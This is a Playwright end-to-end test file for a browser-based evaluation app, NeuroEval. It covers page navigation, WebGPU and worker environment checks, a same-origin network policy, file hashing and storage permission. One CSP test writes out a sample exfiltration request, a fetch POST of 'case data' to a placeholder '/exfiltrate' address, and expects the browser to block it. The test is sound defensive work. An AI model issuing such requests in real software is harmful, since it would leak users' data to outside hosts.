/**
 * The built app in headless Chromium: the shell, the environment check with
 * a real (SwiftShader) WebGPU adapter, real workers, and the network policy.
 */
import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { blockOtherOrigins, expect, foreignRequests, openApp, test } from '../support/fixtures.ts';
import { makeTempDir } from '../support/temp-dir.ts';

const PAGES = [
  ['Home', 'Home'],
  ['Benchmarks', 'Benchmarks'],
  ['Models', 'Models'],
  ['Runs', 'Runs'],
  ['Results', 'Results'],
  ['Review', 'Review'],
  ['Reader study', 'Reader study'],
  ['Settings', 'Settings'],
] as const;

test('the shell renders every page from the navigation', async ({ page, server }) => {
  await openApp(page, server.url);
  const nav = page.getByRole('navigation', { name: 'Main' });
  await expect(nav.getByRole('link')).toHaveText(PAGES.map(([label]) => label));
  for (const [label, heading] of PAGES) {
    await nav.getByRole('link', { name: label }).click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(heading);
    await expect(nav.getByRole('link', { name: label })).toHaveAttribute('aria-current', 'page');
  }
  await expect(page).toHaveTitle('Settings · NeuroEval');
});

test('once idle, the app has the results page\'s code and worker ready before the results are opened', async ({ page, server }) => {
  await openApp(page, server.url);
  // Home was opened, never Results: both come from the idle warm-up (app/Shell.svelte).
  await expect.poll(() => page.evaluate(() => performance.getEntriesByType('resource').map((e) => e.name.split('/').pop() ?? '')), { timeout: 15_000 })
    .toEqual(expect.arrayContaining([expect.stringMatching(/^ResultsView-.*\.js$/), expect.stringMatching(/^results\.worker-.*\.js$/)]));
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Home');
  // The page opens from the loaded code at once, with no "could not be loaded".
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Results' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Results');
  await expect(page.getByTestId('results-runs')).toBeVisible();
});

test('the environment check reports the WebGPU adapter, a worker compute pass and the storage state', async ({ page, server }) => {
  await openApp(page, server.url);
  const env = page.getByTestId('environment-check');
  const webgpu = env.locator('[data-check="webgpu"]');
  await expect(webgpu).toBeVisible();
  // Chromium runs with --enable-unsafe-webgpu: an adapter must exist (SwiftShader on machines without a GPU).
  await expect(webgpu).not.toHaveAttribute('data-verdict', 'fail');
  const adapter = await page.evaluate(async () => (await navigator.gpu.requestAdapter())?.info.architecture ?? null);
  expect(adapter).not.toBeNull();
  await expect(webgpu).toContainText(adapter!);
  // The compute shader ran in the probe worker and its result was checked.
  await expect(env.locator('[data-check="worker-gpu"]')).toHaveAttribute('data-verdict', 'ok');
  await expect(env.locator('[data-check="worker-gpu"]')).toContainText('Test shader passed');
  // shader-f16 is reported either way; SwiftShader has none.
  const f16 = await page.evaluate(async () => (await navigator.gpu.requestAdapter())?.features.has('shader-f16') ?? false);
  await expect(env.locator('[data-check="shader-f16"]')).toContainText(f16 ? 'Supported' : 'Not supported');
  // Our server sends COOP/COEP, so the CPU fallback gets threads.
  await expect(env.locator('[data-check="wasm-threads"]')).toContainText('cross-origin isolated');
  await expect(env.locator('[data-check="storage"]')).toContainText('used by this site');
  // Loading the demo benchmark on first start is the first large write: the browser has been asked.
  await expect(env.locator('[data-check="persisted"] .value')).toHaveText(/^(Granted|Not granted)$/, { timeout: 30_000 });
  await expect(env.locator('[data-check="offline"]')).toHaveAttribute('data-verdict', 'ok', { timeout: 30_000 });
  // The storage figure, read again once the offline copy is whole, is never below that copy ("0 bytes used" beside "42.5 MiB cached").
  await expect(env.locator('[data-check="storage"] .value')).not.toHaveText(/^0 bytes/);
  await expect(env.locator('[data-check="offline"] .value')).toContainText('part of the storage used above');
  await expect(page.getByTestId('recent-runs')).toContainText('No runs yet');
});

test('no request leaves the app origin while the shell loads and runs', async ({ page, server, context, requests }) => {
  const origin = new URL(server.url).origin;
  const blocked = await blockOtherOrigins(context, origin);
  await openApp(page, server.url);
  await expect(page.locator('[data-check="worker-gpu"]')).toHaveAttribute('data-verdict', 'ok');
  await expect(page.locator('[data-check="offline"]')).toHaveAttribute('data-verdict', 'ok', { timeout: 30_000 });
  for (const [label] of PAGES) await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: label }).click();
  await page.getByRole('button', { name: 'Test the worker boundary' }).click();
  await expect(page.getByTestId('ping')).toContainText('Round trip');
  await page.reload();
  await page.waitForSelector('html[data-ready="true"]');

  expect(blocked).toEqual([]);
  const foreign = foreignRequests(requests, origin);
  expect(foreign).toEqual([]);
  expect(requests.length).toBeGreaterThan(5);
  // The log includes the service worker's own traffic: only its precache fetches the hash worker here.
  expect(requests.some((u) => /\/assets\/hash\.worker-[\w-]+\.js$/.test(u))).toBe(true);
  // The policy itself allows only our origin.
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("default-src 'self'");
  expect(csp).toContain("connect-src 'self';");
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Settings' }).click();
  await expect(page.getByTestId('connect-src').getByRole('listitem')).toHaveText([`${origin} (this app)`]);
});

test('the CSP blocks a request to another origin', async ({ page, server }) => {
  await openApp(page, server.url);
  const outcome = await page.evaluate(async () => {
    try {
      await fetch('http://127.0.0.2:9/exfiltrate', { method: 'POST', body: 'case data' });
      return 'sent';
    } catch (e) {
      return String(e);
    }
  });
  expect(outcome).toMatch(/TypeError/);
});

test('a file is hashed in a worker with progress, matching Node; cancel stops it', async ({ page, server }) => {
  const dir = makeTempDir('hash');
  const small = join(dir, 'tokenizer.json');
  const bytes = Buffer.alloc(9 * 1024 * 1024 + 3, 0x5a);
  writeFileSync(small, bytes);
  const big = join(dir, 'model.onnx');
  writeFileSync(big, Buffer.alloc(300 * 1024 * 1024, 1));

  await openApp(page, server.url, '#/settings');
  const box = page.getByTestId('file-hash');
  await box.locator('input[type=file]').setInputFiles(small);
  await expect(box.getByTestId('hash-result')).toHaveText(createHash('sha256').update(bytes).digest('hex'));
  await expect(box.locator('progress')).toHaveAttribute('value', String(bytes.length));

  await box.locator('input[type=file]').setInputFiles(big);
  await box.getByRole('button', { name: 'Cancel' }).click();
  await expect(box.getByTestId('hash-error')).toHaveText('Cancelled.');
  await expect(box.getByTestId('hash-result')).toHaveCount(0);
});

test('persistent storage can be requested and its answer is shown', async ({ page, server }) => {
  await openApp(page, server.url, '#/settings');
  const state = page.getByTestId('persist-state');
  await expect(state).toContainText('Persistent storage:');
  const ask = state.getByRole('button', { name: 'Ask the browser now' });
  if (await ask.isVisible()) await ask.click();
  await expect(state.locator('strong')).toHaveText(/^(granted|not granted)$/);
});
